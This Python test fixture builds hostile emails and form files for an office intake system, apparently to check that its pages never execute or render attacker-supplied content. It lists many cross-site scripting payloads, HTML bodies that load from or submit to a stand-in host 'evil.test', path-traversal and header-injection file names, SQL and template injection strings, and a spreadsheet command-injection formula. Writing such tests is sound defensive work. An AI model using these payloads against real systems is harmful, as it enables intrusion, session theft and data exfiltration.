"""What an attacker sends: script for wherever somebody may write, and an office full of it.

Each of `SCRIPTS` says `alert(...)` where it works, and nothing where it does not: a browser that
opens a page with them must never show a dialogue. `MARK` is in all of them, so that a page can be
asked whether it shows what was sent.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta
from email.headerregistry import Address as Header
from email.message import EmailMessage
from typing import Any, Literal

from model import FORM1, FORM2, Address
from parsers.spec import forms
from tests.intake.desk import File, form1_file, form2_file, mail
from tests.intake.world import FORM1_FIELDS, FORM2_FIELDS
from tests.pages.office import Pages

MARK = "hx9"

#: Where text lands between tags, in an attribute, in a URL, in a script or style, or in a template.
SCRIPTS: tuple[str, ...] = (
    "<script>alert('hx9')</script>",
    "\"><script>alert('hx9')</script>",
    "'><img src=x onerror=alert('hx9')>",
    "</title></textarea></select></option><svg onload=alert('hx9')>",
    "\" autofocus onfocus=\"alert('hx9')",
    "' onmouseover='alert(`hx9`)' x='",
    "javascript:alert('hx9')",
    " java\tscript:alert('hx9')",
    "data:text/html,<script>alert('hx9')</script>",
    "</script><script>alert('hx9')//",
    "<style>@import 'https://evil.test/hx9.css'</style>",
    "<a href=\"javascript:alert('hx9')\">click</a>",
    "<iframe srcdoc=\"<script>alert('hx9')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert('hx9')</script>\"></object>",
    "<form action=https://evil.test/hx9><button>Send</button></form>",
    "<base href=https://evil.test/hx9/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/hx9'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x'
    " onerror=alert('hx9')>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('hx9')>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('hx9')>\">",
    "<!--><img src=x onerror=alert('hx9')>-->",
    "{{ ''.__class__ }}{% raw %}hx9{% endraw %}",
    "${alert('hx9')}",
    "&lt;script&gt;alert('hx9')&lt;/script&gt;",
    "\u202egnp.exe\u2066hx9\u2069\u200f",
    "%3Cscript%3Ealert('hx9')%3C/script%3E",
    '=HYPERLINK("https://evil.test/hx9","hx9")',
    "@SUM(1+1)*cmd|' /C calc'!A0hx9",
    "<scr\x00ipt>alert('hx9')</scr\x00ipt>",
    "\ufeff\u2028<img/src=`x`onerror=alert('hx9')>\u2029",
)

#: What a mail's own HTML may try beside all that.
BODIES: tuple[str, ...] = (
    *SCRIPTS,
    '<link rel=stylesheet href="https://evil.test/hx9.css">',
    '<img src="https://evil.test/hx9.gif" srcset="https://evil.test/hx9.gif 2x" width=1>',
    '<body background="https://evil.test/hx9.gif" onload="alert(\'hx9\')">',
    '<p style="background:url(https://evil.test/hx9.gif);position:fixed;inset:0">hx9</p>',
    '<video poster="https://evil.test/hx9"><source src="https://evil.test/hx9"></video>',
    '<a href="https://evil.test/hx9" target="_top" ping="https://evil.test/hx9">hx9</a>',
    '<a href="//evil.test/hx9">hx9</a><a href="/logout">hx9</a><a href="vbscript:hx9">hx9</a>',
    '<input name="csrf_token" value="hx9"><button formaction="https://evil.test/hx9">hx9</button>',
    '<p id="csrf_token" name="token" class="govuk-skip-link">hx9</p>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>hx9"></use></svg>',
    "<details open ontoggle=\"alert('hx9')\">hx9</details>",
    '<table background="https://evil.test/hx9"><tr><td>hx9</table>',
    '<embed src="https://evil.test/hx9"><applet code="hx9"></applet><marquee onstart=alert(1)>hx9',
    '<template><script>alert("hx9")</script></template><p is="hx9">hx9</p>',
)

#: Names that files may have.
FILES: tuple[str, ...] = (
    "../../../etc/passwd-hx9",
    "..\\..\\hx9.exe",
    'hx9"; filename="evil.html',
    "hx9\r\nX-Evil: yes",
    "<img src=x onerror=alert('hx9')>.docx",
    "hx9\u202excod.exe",
    "C:\\hx9.docx",
    "hx9.html",
    "." * 300 + "hx9",
    "hx9;.docx",
    "hx9%0d%0aX-Evil:yes",
)

#: In place of a number, a reference, a word or a path: what no page may fall over.
NASTY: tuple[str, ...] = (
    "' OR '1'='1",
    "1; DROP TABLE accounts",
    "../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5c",
    "%00",
    "\x00",
    "-1",
    "0",
    "99999999999999999999",
    "9" * 400,
    "1e9",
    "0x10",
    "\u0661\u0662",  # digits, of other scripts
    "\u00b2",
    "nan",
    "\ud7ff\uffff",
    "%ff%fe",
    "a" * 5000,
    "\r\nSet-Cookie: evil=1",
    "%0d%0aSet-Cookie:%20evil=1",
    "//evil.test/",
    "\\\\evil.test\\",
    "https://evil.test/",
    "{{7*7}}",
    "<script>alert('hx9')</script>",
    "2027-02-30",
    "0000-00-00",
    "9999-12-31",
    "*",
    "%",
    "_",
    '"',
)


def _headers(text: str) -> str:
    """As much of it as a header can hold."""
    return "".join(c for c in text if c.isprintable() or c in "\u202e\u2066\u2069")


def _texts(form: str, shift: int) -> dict[str, Any]:
    """Script in every field of a form that takes text, another in each."""
    fields = [f for f in forms()[form].fields if f.type in ("text", "long text")]
    return {
        one.key: SCRIPTS[(shift + number) % len(SCRIPTS)].replace("\x00", "")
        for number, one in enumerate(fields)
    }


def form1(shift: int, kind: Literal["docx", "xlsx"] = "docx", **fields: Any) -> File:
    """Form 1 with script in every field."""
    typed = {**FORM1_FIELDS, **_texts(FORM1, shift), **fields}
    return form1_file(kind, **typed)


def form2(shift: int, kind: Literal["docx", "xlsx"] = "docx", **fields: Any) -> File:
    """Form 2 with script in every field."""
    rows = [{"action": SCRIPTS[shift], "owner": SCRIPTS[shift + 1], "due": "2027-09-01"}]
    typed = {**FORM2_FIELDS, **_texts(FORM2, shift), "actions": rows, **fields}
    return form2_file(kind, **typed)


def sender(shift: int, email: str = "evil@hx9.example.org") -> Address:
    """Somebody whose name is script."""
    return Address(email=email, name=_headers(SCRIPTS[shift]))


def letter(shift: int, *files: File, who: Address | None = None) -> EmailMessage:
    """A mail with script in its headers, its text and its HTML."""
    made = mail(*files, subject=_headers(SCRIPTS[shift]), text="\n\n".join(SCRIPTS))
    person, tricks = who or sender(shift), _headers(SCRIPTS[shift + 1])
    for name in ("From", "Message-ID"):
        del made[name]
    made["From"] = Header(person.name, addr_spec=person.email)
    made["Message-ID"] = f"<{shift}.{MARK}'\"<b>@hx9.example.org>"
    made["Reply-To"] = Header(tricks, addr_spec="reply@hx9.example.org")
    made["Cc"] = Header(tricks, addr_spec=f"copy{shift}@hx9.example.org")
    made["References"] = f"<{MARK}\"onload='alert(1)'@hx9.example.org>"
    return made


def html(shift: int) -> EmailMessage:
    """A mail of HTML alone, with all that `BODIES` tries."""
    made = letter(shift)
    made.set_content("<html><body>" + "\n".join(BODIES) + "</body></html>", subtype="html")
    return made


def files() -> EmailMessage:
    """A mail with files whose names lead elsewhere."""
    made = letter(5)
    for name in FILES:
        made.add_attachment(b"<script>alert('hx9')</script>", "text", "html", filename="name-here")
        part = list(made.iter_attachments())[-1]
        part.replace_header("Content-Disposition", f'attachment; filename="{_escaped(name)}"')
    return made


def _escaped(name: str) -> str:
    plain = name.replace("\\", "\\\\").replace('"', '\\"')
    return "".join(c for c in plain if c.isprintable() or c == "\u202e")


@dataclass
class Office:
    """An office that an attacker has written to."""

    pages: Pages
    mails: int = 0  #: that came in

    def fill(self) -> None:
        """Mails of all kinds come in, and are answered."""
        for shift in (0, 9, 18):
            who = sender(shift, f"evil{shift}@hx9.example.org")
            form = form1(shift, "xlsx" if shift == 9 else "docx", email=who.email)
            self._come(letter(shift, form, who=who))
        who = sender(0, "evil0@hx9.example.org")
        reference = self.pages.world.record()["reference"]
        self._come(letter(3, form2(3, reference=reference), who=who))
        self._come(letter(4, form1(4, start_date=None, email=who.email), who=who))
        self._come(letter(6, form1(7, email=SCRIPTS[2]), who=sender(6)))
        self._come(html(8), files(), letter(10), letter(12))
        self._come(letter(14, form2(10, reference=SCRIPTS[0])))

    def _come(self, *mails: EmailMessage) -> None:
        for one in mails:
            self.pages.now += timedelta(minutes=1)
            self.pages.desk.post(one.as_bytes(), self.pages.now)
            self.mails += 1
        self.pages.now += timedelta(minutes=1)
        self.pages.desk.run(self.pages.now)
